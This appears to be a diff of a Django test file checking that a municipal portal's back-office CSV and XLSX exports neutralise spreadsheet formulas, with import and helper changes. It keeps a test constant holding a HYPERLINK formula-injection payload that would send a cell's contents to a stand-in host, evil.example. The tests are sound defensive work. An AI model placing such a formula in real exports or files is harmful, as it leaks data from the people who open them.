@@ -14,16 +14,13 @@ from openpyxl import load_workbook
 from portail.backoffice.exports import csv_bytes, neutralise
 from portail.billing.models import CounterPayment
 from portail.reservations.models import Basket, BasketStatus
-from tests.backoffice.operations.world import build_town, client_for, paid_booking
+from tests.factories import paid_booking
+from tests.world.staff import client_for
+from tests.world.town import build_town
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
-
-
-@pytest.fixture(autouse=True)
-def _fast_password_hasher(settings):
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
 
 
 @pytest.fixture
@@ -69,7 +66,7 @@ def test_csv_bytes_neutralises_every_text_cell():
 
 
 def test_the_head_counts_csv(town):
-    response = client_for(town.gestionnaire).get(
+    response = client_for(town.gestionnaire, "en").get(
         reverse("backoffice:headcounts_csv"), {"date": town.today.date.isoformat()}
     )
     assert response.status_code == 200
@@ -81,7 +78,7 @@ def test_the_head_counts_csv(town):
 
 
 def test_the_head_counts_xlsx_has_no_formula(town):
-    response = client_for(town.gestionnaire).get(
+    response = client_for(town.gestionnaire, "en").get(
         reverse("backoffice:headcounts_xlsx"), {"date": town.today.date.isoformat()}
     )
     assert response.status_code == 200
@@ -113,7 +110,7 @@ def test_the_regie_csv(town):
         created_at=noon,
     )
     day = town.today.date.isoformat()
-    response = client_for(town.gestionnaire).get(
+    response = client_for(town.gestionnaire, "en").get(
         reverse("backoffice:payments_export"), {"export-start": day, "export-end": day}
     )
     assert response.status_code == 200
